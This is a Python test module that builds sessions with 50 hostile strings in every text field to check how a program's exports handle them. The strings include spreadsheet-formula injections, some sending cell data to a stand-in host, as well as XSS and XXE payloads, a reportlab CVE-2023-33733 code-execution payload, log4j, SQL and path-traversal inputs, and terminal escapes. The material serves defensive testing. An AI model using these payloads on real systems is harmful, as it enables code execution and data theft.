"""Strings that somebody could type or paste to make a reader of our files, or our own window, do something; and sessions full of them."""

from collections.abc import Callable
from dataclasses import fields, replace
from typing import Any

from kanaalwaarden.core import intents
from kanaalwaarden.core.model import (
    NO_JUDGEMENT,
    RECORDS,
    Account,
    Action,
    AgendaItem,
    Answer,
    Argument,
    Card,
    Carried,
    Conclusion,
    DefinitionChange,
    Figure,
    Fit,
    FollowUp,
    OpenQuestion,
    Purpose,
    Rating,
    Record,
    Round,
    RoundCell,
    Route,
    Session,
    Threshold,
    session_of,
)
from kanaalwaarden.core.text import NAME_LIMIT, clean_name, clean_text
from tests import samples
from tests.core import test_edition

MARK = "/tmp/kanaalwaarden-hostile"
"""A file that no string may make: what would be read, written or run names it."""

STRINGS = (
    # Formulas of spreadsheets (OWASP, CSV injection), also behind what a program may strip
    "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    f"=cmd|'/C touch {MARK}'!A1", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    '=WEBSERVICE("http://kwaad.example/"&A2)', f"='file://{MARK}.xls'#$Sheet1.A1", "'=1+1", '";=1+1;"', "＝1+1", " =1+1",
    # HTML, SVG and XML
    f'<img src="{MARK}.png">', '<img src="http://kwaad.example/a.png" onerror="alert(1)">', "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>", "' onmouseover='alert(1)' x='", '<a href="javascript:alert(1)">klik</a>', "</title></style><h1>kop</h1>",
    "<!-- &lt; --> &#60;b&#62; &amp;", "]]><x/><![CDATA[", f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{MARK}">]><a>&x;</a>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{MARK}.png"/></svg>',
    # Markup of reportlab, with CVE-2023-33733, and of Qt
    f"<para><font color=\"[getattr(pow,W('__globals__'))['os'].system('touch {MARK}') for W in [str]] and 'red'\">x</font></para>",
    f'<a href="http://kwaad.example" color="blue">a</a><img src="file://{MARK}.png" width="9" height="9"/><onDraw name="x"/>',
    "<b>vet</b> <i>schuin</i><br/><seq id='x'/>", f'<qt><img src="{MARK}.png"><a href="file://{MARK}">hier</a></qt>',
    # Markdown
    "[klik](http://kwaad.example) ![plaatje](http://kwaad.example/a.png)", "http://kwaad.example www.kwaad.example <http://kwaad.example>",
    "# kop\n- lijst\n| a | b |\n|---|---|\n```\n[x]: http://kwaad.example\n[x]", "`code` **vet** ~~weg~~ $\\href{http://kwaad.example}{x}$",
    # Words of our own programs: formats, paths, SQL, terminals, devices, keys of menus
    "{0} {text} {0.__class__.__init__.__globals__} %s %n %1 %(x)s ${jndi:ldap://kwaad.example/a}",
    "../../../../etc/passwd", f"..\\..\\windows\\win.ini {MARK}", "'; DROP TABLE rating; --", "\x1b]0;kwaad\x07\x1b[2J\x1b[31mrood",
    "NUL", "&Bestand &&nog &", 'a;b,c\t"d" \'e\'', "regel 1\r\nregel 2\u2028regel 3\u2029regel 4",
    # Letters
    "a\x00b\x01c\x7fd\x85e\ufffe\uffff", "\u202egnp.exe\u202c \u2066bidi\u2069 \u200f", "on\u200bzicht\u200dbaar\ufeff\u00ad",
    "half \ud800 surrogaat", "אבג مرحبا 漢字 👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\u0301\u0301", "Donaudampfschifffahrt" * 9,
)  # fmt: skip
assert len(set(STRINGS)) == 50

PERSONS = {"people", "owner", "manager", "decider", "withheld", "bodies"}
"""Fields that the public edition takes out of all text: filled with another string, so that the first one stays."""
_OURS = {
    "id", "code", "key", "digest", "table_name", "field", "at", "opened", "revealed", "started", "ended", "made", "taken",
    "question", "platform", "value", "discipline", "purpose", "kind", "number", *intents.DATES, *intents.KEYS, *intents.CHOICES,
}  # fmt: skip
"""Fields that hold a key, a choice, a moment or a figure: what is typed there is refused (see `intents.clean_fields`)."""
_CHOSEN = {("rating", "effect"), ("conclusion", "effect")}
_TYPED = {("session", "aim"), ("value", "question")}
"""Names that stand for a choice in one table and for text in another."""


def typed(kind: type[Any], name: str) -> bool:
    """Whether a field of a record holds what somebody typed."""
    text = next(each for each in fields(kind) if each.name == name).type in (str, "str")
    return text and ((kind.TABLE, name) in _TYPED or (name not in _OURS and (kind.TABLE, name) not in _CHOSEN))


def whole() -> Session:
    """A session with a record of every kind that can hold a text: what the test of editions plants, and the rest."""
    published = {"read_back": {"consent": "ja"}, "publication": {"formal": "ja", "people": True}, "decision": {"review": "2028-01-01"}}
    base = [replace(each, **published.get(each.TABLE, {})) for each in test_edition.planted().records()]
    prompts = samples.prompts()
    asked = [(group.prompts[0], "" if group.per == "session" else "p1") for group in prompts.groups]
    records: list[Record] = [
        *base,
        *(Answer(prompt.id, platform, text="x", owner="x", asked=prompt.question) for prompt, platform in asked),
        Answer("weg.weg", "p1", text="x", asked="x"), Answer("weg.weg", "", text="x", asked="x"),
        Figure("f1", 1, "p1", "x", "12", "2026", "x"), Card("c1", 1, "feit", "x", "x", text="x", meaning="x", platform="p1"),
        Purpose("g1", 1, "gebruik", "x", "x"), Purpose("g2", 2, "doelgroep", "y", "x"), Fit("g1", "p1", "mits", "x"),
        Fit("g2", "p1", "nee", "x"), Route("r1", 1, "x", "x", "p1", "x", note="x"),
        Threshold("h1", 1, "p1", "uitstap", "x", "x", "2027-02-03", note="x"),
        Account("k2", 2, "p1", "x", project=True), Action("t2", 2, "x", "p1", "w1", owner="x", date="2027-01-02", note="x"),
        OpenQuestion("u1", "w1", "p1", "x", "x", answer="x"), OpenQuestion("u2", "", "", "x", "x"), AgendaItem("w1", "p1", 1),
        Argument("a2", "w1", "p1", "", "feit", "formulering", text="x", at="2026-01-01"), FollowUp(1, "2027-05-06", "x", "x", "2025"),
        Conclusion("w1", "p1", "veel", "x"), Conclusion("w1", "", "matig", "x"), Carried("action", "t2", "x", "0" * 64),
        Carried("action", "t9", "x", "0" * 64), DefinitionChange("w1.definition.x", "w1", "definition", "x", "x", "2026-01-01", True),
        Round(1, "2026-01-01T09:00:00+01:00"), Round(2, "2026-01-01T10:00:00+01:00"), RoundCell(2, "w1", "p1"),
        Rating(2, "d1", "p1", "w1", "matig", "x", "x"),
        Rating(2, "d2", "p1", "w1", NO_JUDGEMENT, "x", "x"),
    ]  # fmt: skip
    found = {type(each) for each in records}
    missing = [kind.TABLE for kind in RECORDS if kind not in found and any(typed(kind, each.name) for each in fields(kind))]
    assert not missing, f"kinds of records in which nothing is planted: {missing}"
    return session_of(records)


def cleaned(text: str, name: str, number: int) -> str:
    """A string as the program keeps it in a field of that name; names have a number, as no two may be the same."""
    if name not in intents.NAMES:
        return clean_text(text)
    tail = f" {number}"  # within the limit, also where normalising makes it longer
    return clean_name(text[: NAME_LIMIT - 20])[: NAME_LIMIT - len(tail)].rstrip() + tail


def plant(text: str, person: str = "") -> Session:
    """The session with `text` in every field that can hold one, and `person` (or the same) in those that name persons."""
    return filled(lambda number, name: person or text if name in PERSONS else text)


def mixed() -> Session:
    """The session with another string in every field: all of them in one session."""
    return filled(lambda number, name: STRINGS[number % len(STRINGS)])


def filled(give: Callable[[int, str], str]) -> Session:
    """The session with what `give` says in every field that can hold a text: it is told a number and the name of the field."""
    records, number = [], 0
    for record in whole().records():
        given = {}
        for each in fields(record):
            if typed(type(record), each.name):
                number += 1
                given[each.name] = cleaned(give(number, each.name), each.name, number)
        records.append(replace(record, **given))
    return session_of(records)
